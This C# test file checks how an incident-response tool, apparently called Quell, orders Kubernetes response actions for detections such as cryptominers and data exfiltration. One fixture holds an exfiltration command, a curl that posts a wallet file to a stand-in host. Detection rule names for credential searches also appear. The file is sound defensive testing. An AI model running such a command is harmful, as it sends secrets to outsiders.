using System.Collections.Immutable;
using CsCheck;
using Quell.Domain.Actions;
using Quell.Domain.Facts;
using Quell.Domain.Responses;
using Quell.Knowledge.Cards;
using Quell.Knowledge.Ordering;
using Quell.Knowledge.Patterns;

namespace Quell.Knowledge.Tests.Ordering;

public sealed class ActionOrderTests
{
    private static readonly ResponseKnowledge s_knowledge = ResponseKnowledge.Embedded;
    private static readonly Availability s_confirmed = new Availability.Confirmed(
        "ran lately",
        new Citation("executions", "list")
    );
    private static readonly Availability s_unconfirmed = new Availability.Unconfirmed("no sign of the responder");
    private static readonly Availability s_unavailable = new Availability.Unavailable("no responder");

    [Fact]
    public void A_miners_evidence_comes_first_then_its_process_and_pods_last()
    {
        Arrange(
                Facts.Miner,
                s_knowledge
                    .Cards.Where(card => card.Command is null)
                    .Select(card => Candidate(card.Type, s_unconfirmed))
            )
            .Where(type => !type.Contains("CLOUD") && !type.StartsWith("IAM", StringComparison.Ordinal))
            .ShouldBe([
                "GET_LOGS",
                "FILE_ACQUIRE",
                "CAPTURE",
                "KUBERNETES_VOLUME_SNAPSHOT",
                "KILL_PROCESS",
                "FILE_QUARANTINE",
                "ISOLATE_NETWORK",
                "PAUSE_CONTAINER",
                "DELETE_POD",
                "KILL_CONTAINER",
                "STOP_CONTAINER",
                "ROLLOUT_RESTART",
            ]);
    }

    [Fact]
    public void Where_data_is_leaving_containment_goes_first_and_the_reason_says_why()
    {
        var facts = Facts.Miner.Know(FactKeys.EventRule, "Exfiltrating Artifacts via Kubernetes Control Plane");
        var arranged = ActionOrder.Arrange(
            [Candidate("GET_LOGS"), Candidate("ISOLATE_NETWORK"), Candidate("DELETE_POD"), Candidate("KILL_PROCESS")],
            ThreatPatterns.Match(facts),
            facts,
            s_knowledge
        );

        Types(arranged).ShouldBe(["ISOLATE_NETWORK", "KILL_PROCESS", "GET_LOGS", "DELETE_POD"]);
        arranged.Reason.Text.ShouldContain("Containment stands before evidence because data may be leaving");
        arranged.Reason.Text.ShouldContain("also Cryptominer");
    }

    [Fact]
    public void Code_that_is_in_memory_only_is_frozen_and_not_killed_first()
    {
        var facts = Facts.Of((FactKeys.EventRule, "Fileless execution via memfd_create"));

        Arrange(facts, [Candidate("KILL_PROCESS"), Candidate("ISOLATE_NETWORK"), Candidate("PAUSE_CONTAINER")])
            .ShouldBe(["PAUSE_CONTAINER", "ISOLATE_NETWORK", "KILL_PROCESS"]);
    }

    [Fact]
    public void Among_equals_the_confirmed_goes_first_and_the_reason_says_so()
    {
        var arranged = ActionOrder.Arrange(
            [
                Candidate("STOP_CONTAINER", s_confirmed),
                Candidate("KILL_CONTAINER", s_unconfirmed),
                Candidate("GET_LOGS", s_unconfirmed),
            ],
            ThreatPatterns.Match(Facts.Miner),
            Facts.Miner,
            s_knowledge
        );

        Types(arranged).ShouldBe(["GET_LOGS", "STOP_CONTAINER", "KILL_CONTAINER"]);
        arranged.Reason.Text.ShouldContain(
            "STOP_CONTAINER stands before KILL_CONTAINER because its responder is confirmed"
        );
        arranged.Places[1].Why.ShouldContain("which achieves the same (the container ends)");
    }

    [Fact]
    public void A_confirmed_action_does_not_pass_one_that_achieves_something_else() =>
        Arrange(
                Facts.Miner,
                [
                    Candidate("ISOLATE_NETWORK", s_confirmed),
                    Candidate("KILL_PROCESS", s_unconfirmed),
                    Candidate("ROLLOUT_RESTART", s_confirmed),
                    Candidate("DELETE_POD", s_unconfirmed),
                ]
            )
            .ShouldBe(["KILL_PROCESS", "ISOLATE_NETWORK", "DELETE_POD", "ROLLOUT_RESTART"]);

    [Fact]
    public void Equals_change_places_among_themselves_and_nothing_else_moves()
    {
        var wanted = new[]
        {
            Candidate("KILL_CONTAINER", s_unconfirmed),
            Candidate("DELETE_POD", s_unconfirmed),
            Candidate("STOP_CONTAINER", s_confirmed),
            Candidate("ROLLOUT_RESTART", s_confirmed),
        };
        var facts = Facts.Of((FactKeys.EventRule, "Drop and execute new binary in container"));

        Arrange(facts, wanted).ShouldBe(["STOP_CONTAINER", "KILL_CONTAINER", "DELETE_POD", "ROLLOUT_RESTART"]);
    }

    [Fact]
    public void What_a_fact_says_will_not_take_stands_behind_the_rest_of_its_kind_and_says_why()
    {
        var facts = Facts
            .Miner.Know(FactKeys.EventRule, "Exfiltrating Artifacts")
            .Know(FactKeys.PodHostNetwork, "true");
        var arranged = ActionOrder.Arrange(
            [Candidate("ISOLATE_NETWORK"), Candidate("KILL_PROCESS"), Candidate("GET_LOGS")],
            ThreatPatterns.Match(facts),
            facts,
            s_knowledge
        );

        Types(arranged).ShouldBe(["KILL_PROCESS", "ISOLATE_NETWORK", "GET_LOGS"]);
        var place = arranged.Places[1];
        place.Why.ShouldContain(
            "this does not hold: the Pod does not use the node's network (pod.hostNetwork is true)"
        );
        place.Citations.ShouldContain(facts.Single(FactKeys.PodHostNetwork)!.Citation);
    }

    [Fact]
    public void What_nobody_could_check_is_no_obstacle() =>
        Arrange(
                Facts.Of((FactKeys.EventRule, "Exfiltrating Artifacts")),
                [Candidate("KILL_PROCESS"), Candidate("ISOLATE_NETWORK")]
            )
            .ShouldBe(["ISOLATE_NETWORK", "KILL_PROCESS"]);

    [Fact]
    public void Each_action_says_why_it_stands_where_it_stands_and_cites_it()
    {
        var arranged = ActionOrder.Arrange(
            [Candidate("GET_LOGS"), Candidate("KILL_PROCESS"), Candidate("DELETE_POD"), Unknown("REBOOT_NODE")],
            ThreatPatterns.Match(Facts.Miner),
            Facts.Miner,
            s_knowledge
        );

        arranged.Places.Select(place => place.Action).ShouldBe(arranged.Ordered.Select(candidate => candidate.Id));
        arranged
            .Places[0]
            .Why.ShouldBe(
                "it saves evidence, which comes first; the pattern Cryptominer names it as number 1 of its evidence."
            );
        arranged.Places[0].Citations.ShouldBe([new Citation("threat pattern", "Patterns/cryptominer.yaml")]);
        arranged.Places[3].Why.ShouldBe("it is unknown to Quell, and what is unknown is ordered last.");
    }

    [Theory]
    [InlineData(
        "Terminal shell in container",
        "Not in what was read, so evidence stands first; if commands are being typed right now"
    )]
    [InlineData("Unexpected UDP Traffic", "Not in what was read, so evidence stands first; if data is leaving")]
    [InlineData("Exfiltrating Artifacts", "Yes, rule \"Exfiltrating Artifacts\". Containment stands before evidence")]
    [InlineData(
        "Remove Bulk Data from Disk",
        "Yes, rule \"Remove Bulk Data from Disk\". Containment stands before evidence"
    )]
    [InlineData("Our own rule", "Not in what was read, so evidence stands first.")]
    public void The_trade_between_evidence_and_containment_is_said_in_the_open(string rule, string answer)
    {
        var facts = Facts.Of((FactKeys.EventRule, rule));

        ActionOrder
            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(facts), facts, s_knowledge)
            .Reason.Text.ShouldContain($"Active exfiltration or destruction seen? {answer}");
    }

    [Fact]
    public void A_stolen_secret_turns_the_order_only_where_something_shows_that_it_is_leaving()
    {
        var reading = Facts.Of((FactKeys.EventRule, "Search Private Keys or Passwords"));
        OrderCandidate[] both = [Candidate("GET_LOGS"), Candidate("KILL_PROCESS")];

        Arrange(reading, both).ShouldBe(["GET_LOGS", "KILL_PROCESS"]);
        Arrange(reading.Know(FactKeys.ProcessCommand, "curl -d @/srv/wallet.dat https://x.example"), both)
            .ShouldBe(["KILL_PROCESS", "GET_LOGS"]);
    }

    [Fact]
    public void What_is_unavailable_stands_after_what_is_not_and_before_what_nobody_knows()
    {
        var unknown = Unknown("REBOOT_NODE");

        Arrange(
                Facts.Miner,
                [unknown, Candidate("GET_LOGS", s_unavailable), Candidate("ROLLOUT_RESTART", s_unconfirmed)]
            )
            .ShouldBe(["ROLLOUT_RESTART", "GET_LOGS", "REBOOT_NODE"]);
        Arrange(
                Facts.Miner,
                [unknown with { Card = null, Availability = s_confirmed }, Candidate("GET_LOGS", s_unavailable)]
            )
            .ShouldBe(["GET_LOGS", "REBOOT_NODE"]);
    }

    [Fact]
    public void The_reason_tells_what_was_recognised_and_names_what_was_found()
    {
        var reason = ActionOrder
            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(Facts.Miner), Facts.Miner, s_knowledge)
            .Reason;

        reason.Text.ShouldStartWith("Cryptominer (rule \"Detect crypto miners using the Stratum protocol\"");
        reason.Text.ShouldContain("ending xmrig then stops the cost at once");
        reason.Text.ShouldContain("registry.example/shop/checkout:1.4 has the same hole");
        reason.Citations.ShouldContain(Facts.Miner.Single(FactKeys.Image)!.Citation);
    }

    [Fact]
    public void An_event_that_nothing_recognises_has_an_honest_reason()
    {
        var facts = Facts.Of((FactKeys.EventRule, "Our own rule"));

        ActionOrder
            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(facts), facts, s_knowledge)
            .Reason.Text.ShouldStartWith("No known pattern matches: for Our own rule the general order is used");
        ActionOrder.Arrange([Candidate("GET_LOGS")], [], facts, s_knowledge).Reason.Text.ShouldNotBeEmpty();
    }

    [Fact]
    public void The_order_is_the_same_whatever_the_order_of_the_input() =>
        Gen.Select(SomeCandidates, SomeFacts, Gen.Int)
            .Sample(
                (candidates, facts, seed) =>
                {
                    var matches = ThreatPatterns.Match(facts);
                    var shuffled = candidates.OrderBy(candidate => HashCode.Combine(candidate.Id, seed));
                    var turned = matches.Reverse().ToImmutableArray();

                    var one = ActionOrder.Arrange(candidates, matches, facts, s_knowledge);
                    var other = ActionOrder.Arrange(shuffled, turned, facts, s_knowledge);

                    one.Ordered.ShouldBe(other.Ordered);
                    one.Reason.Text.ShouldBe(other.Reason.Text);
                    one.Ordered.Length.ShouldBe(candidates.Count);
                },
                iter: 1000
            );

    [Fact]
    public void Nothing_is_destroyed_before_an_available_action_that_saves_the_same_evidence() =>
        Gen.Select(SomeCandidates, SomeFacts)
            .Sample(
                (candidates, facts) =>
                {
                    var matches = ThreatPatterns.Match(facts);
                    var flipped = matches.Any(match => match.ContainsFirst);
                    var ordered = ActionOrder.Arrange(candidates, matches, facts, s_knowledge).Ordered;
                    for (var i = 0; i < ordered.Length; i++)
                    {
                        // A pattern may contain by what is a destruction elsewhere, such as stopping every writer.
                        var contains =
                            ordered[i].Card?.Phase == ActionPhase.Containment
                            || matches.Any(match =>
                                match.Pattern.Order.Contains((ActionPhase.Containment, ordered[i].Type))
                            );
                        if (ordered[i].Card is not { IsKnown: true } card || (flipped && contains))
                        {
                            continue;
                        }
                        ordered
                            .Skip(i + 1)
                            .All(later =>
                                later.Availability is Availability.Unavailable
                                || later.Card == null
                                || !later.Card.SavesEvidence.Any(kind => card.EvidenceLost.Contains(kind))
                            )
                            .ShouldBeTrue(
                                $"{card.Type} in {string.Join(", ", ordered.Select(each => each.Type))}; {string.Join(", ", matches.Select(match => match.Pattern.Id))}"
                            );
                    }
                },
                iter: 1000
            );

    [Fact]
    public void A_flip_always_has_its_reason_in_the_words() =>
        SomeFacts.Sample(
            facts =>
            {
                var matches = ThreatPatterns.Match(facts);
                var text = ActionOrder.Arrange([Candidate("GET_LOGS")], matches, facts, s_knowledge).Reason.Text;
                text.Contains("Containment stands before evidence because").ShouldBe(matches.Any(m => m.ContainsFirst));
            },
            iter: 300
        );

    [Fact]
    public void Availability_never_moves_an_action_past_one_that_achieves_something_else() =>
        Gen.Select(SomeCandidates, SomeFacts)
            .Sample(
                (candidates, facts) =>
                {
                    var runnable = candidates.Where(c => c.Availability is not Availability.Unavailable).ToList();
                    var matches = ThreatPatterns.Match(facts);
                    var leveled = runnable.ConvertAll(c => c with { Availability = s_confirmed });

                    var real = ActionOrder.Arrange(runnable, matches, facts, s_knowledge).Ordered;
                    var level = ActionOrder.Arrange(leveled, matches, facts, s_knowledge).Ordered;

                    real.Select(Achieves).ShouldBe(level.Select(Achieves));
                },
                iter: 1000
            );

    [Fact]
    public void Of_two_equals_the_confirmed_is_never_behind() =>
        Gen.Select(SomeCandidates, SomeFacts)
            .Sample(
                (candidates, facts) =>
                {
                    var ordered = ActionOrder
                        .Arrange(candidates, ThreatPatterns.Match(facts), facts, s_knowledge)
                        .Ordered.Where(c => c.Availability is not Availability.Unavailable)
                        .ToList();
                    foreach (var equals in ordered.GroupBy(Achieves, StringComparer.Ordinal))
                    {
                        equals
                            .Select(c => c.Availability is Availability.Confirmed)
                            .SkipWhile(confirmed => confirmed)
                            .ShouldAllBe(confirmed => !confirmed);
                    }
                },
                iter: 1000
            );

    private static string Achieves(OrderCandidate candidate) =>
        s_knowledge.Achievements.Of(candidate.Type) is { AreEquals: true } equals ? equals.Word : candidate.Type;

    private static readonly Gen<FactSheet> SomeFacts =
        from rules in Gen.OneOf(
            "Terminal shell in container",
            "Remove Bulk Data from Disk",
            "Exfiltrating Artifacts",
            "Known Cryptominer Process Executed",
            "Find AWS Credentials",
            "PTRACE attached to process",
            "Drop and execute new binary in container",
            "Unexpected UDP Traffic",
            "Cloudtrail Logging Disabled",
            "Linux Kernel Module Injection Detected",
            "Read sensitive file untrusted",
            "Web Server Spawned Shell",
            "Our own rule"
        ).List[1, 3]
        select FactSheet.Empty.From("event", FactKeys.EventRule, [.. rules]);

    private static readonly Gen<List<OrderCandidate>> SomeCandidates = (
        from type in Gen.OneOf([.. s_knowledge.Cards.Select(card => card.Type), "REBOOT_NODE"])
        from availability in Gen.OneOf(s_confirmed, s_unconfirmed, s_unavailable)
        from target in Gen.Int[0, 2]
        select type is "REBOOT_NODE"
            ? Unknown(type) with
            {
                Target = $"t{target}",
                Id = new ActionId($"{type}{target}"),
            }
            : Candidate(type, availability, target)
    )
        .List[0, 12]
        .Select(list => list.DistinctBy(candidate => candidate.Id).ToList());

    private static OrderCandidate Candidate(string type, Availability? availability = null, int target = 0) =>
        new(new ActionId($"{type}{target}"), type, s_knowledge.Card(type), availability ?? s_confirmed, $"t{target}");

    private static OrderCandidate Unknown(string type) =>
        new(new ActionId(type), type, UnknownCard.Of(Catalogue.Of(type, ResponderType.Host)), s_confirmed, "t");

    private static string[] Arrange(FactSheet facts, IEnumerable<OrderCandidate> candidates) =>
        Types(ActionOrder.Arrange(candidates, ThreatPatterns.Match(facts), facts, s_knowledge));

    private static string[] Types(Arrangement arranged) => [.. arranged.Ordered.Select(candidate => candidate.Type)];
}
